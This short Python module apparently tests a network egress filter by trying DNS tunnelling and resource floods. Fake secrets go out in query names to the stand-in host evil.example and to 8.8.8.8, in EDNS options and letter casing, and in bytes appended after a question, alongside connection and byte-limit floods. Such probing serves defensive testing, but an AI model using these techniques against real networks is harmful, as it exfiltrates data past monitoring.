"""carried - data in questions of DNS, and more of everything than was allowed."""

import socket

from wire import LISTED, PATIENCE, ask, ask_stream, exchange, question

TXT, ANY = 16, 255


def names() -> str:
    """DNS tunnelling: data in unlisted names, of each type, over UDP and TCP, to any server."""
    for name in ("udp-secret.evil.example", f"below-secret.{LISTED}", "secret"):
        ask(question(name))
        ask(question(name, TXT))
        ask(question(name, ANY))
    ask(question("far-secret.evil.example"), "8.8.8.8")
    ask_stream(question("tcp-secret.evil.example"))
    return ""


def spelling() -> str:
    """DNS tunnelling: data in a listed name's letters, its options, and what comes behind it."""
    ask(question("ApI.eXaMpLe", edns=b"\xfd\xe9\0\6secret"))
    ask_stream(question("aPI.examplE", TXT, edns=b"\xfd\xe9\0\6secret"))
    ask(question(LISTED) + b"secret")
    return ""


def many_names() -> str:
    """A flood of names below a wildcard."""
    for number in range(200):
        ask(question(f"n{number}.wild.example"))
    return ""


def long_names() -> str:
    """Much data in one name below a wildcard."""
    ask(question(f"{'secret' * 8}.{'x' * 40}.wild.example"))
    return ""


def connections() -> str:
    """A flood of connections."""
    held = []
    spoken = 0
    for _ in range(40):
        try:
            held.append(socket.create_connection((LISTED, 5432), PATIENCE))
            spoken += held[-1].recv(100) == b"hello\n"
        except ConnectionError:
            pass
    return f"{spoken} at once" if spoken > 8 else ""


def bytes_() -> str:
    """More bytes than were allowed."""
    came = exchange(LISTED, 80, f"GET /bytes/500000 HTTP/1.1\r\nHost: {LISTED}\r\n\r\n".encode())
    return f"{len(came)} bytes" if len(came) > 500000 else ""
